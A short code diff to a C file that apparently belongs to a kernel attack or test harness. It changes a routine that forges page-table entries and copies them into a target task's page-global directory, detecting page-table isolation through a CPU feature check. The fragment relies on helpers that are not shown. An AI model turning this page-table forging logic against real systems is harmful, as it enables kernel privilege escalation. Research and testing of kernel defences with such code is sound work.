@@ -16,6 +16,7 @@
 #include <unistd.h>
 
 #include "attack.h"
+#include "files.h"
 #include "list.h"
 #include "objects.h"
 
@@ -220,18 +221,19 @@ enum outcome mm_pgd_low_table(void)
 {
 	char *region = (char *)sparse_region(user_room(ROOT_PART), ROOT_TRIES,
 					     PROT_READ | PROT_WRITE | PROT_EXEC);
-	int index = forged_index(), halves;
 	uint64_t entry = forged_entry(), root;
+	int index = forged_index(), halves;
+	bool isolated = cpu_has("pti");
 	struct task task;
 
 	start_other_mm();
 	if (!region || ktask(0, &task))
 		return broken("no room, or no mm found");
-	halves = find_halves(region, !(task.pgd & PAGE_SIZE), &root);
+	halves = find_halves(region, isolated, &root);
 	if (halves < 0)
 		return broken("no two tables that lie side by side");
 	copy_next_tables(region + halves / ROOT_TRIES * PMD_SIZE, task.pgd, index, entry);
-	if (!(task.pgd & PAGE_SIZE))
+	if (isolated)
 		copy_next_tables(region + halves % ROOT_TRIES * PMD_SIZE, task.pgd + PAGE_SIZE,
 				 index, entry);
 	return look_by_root(&task, root, index);
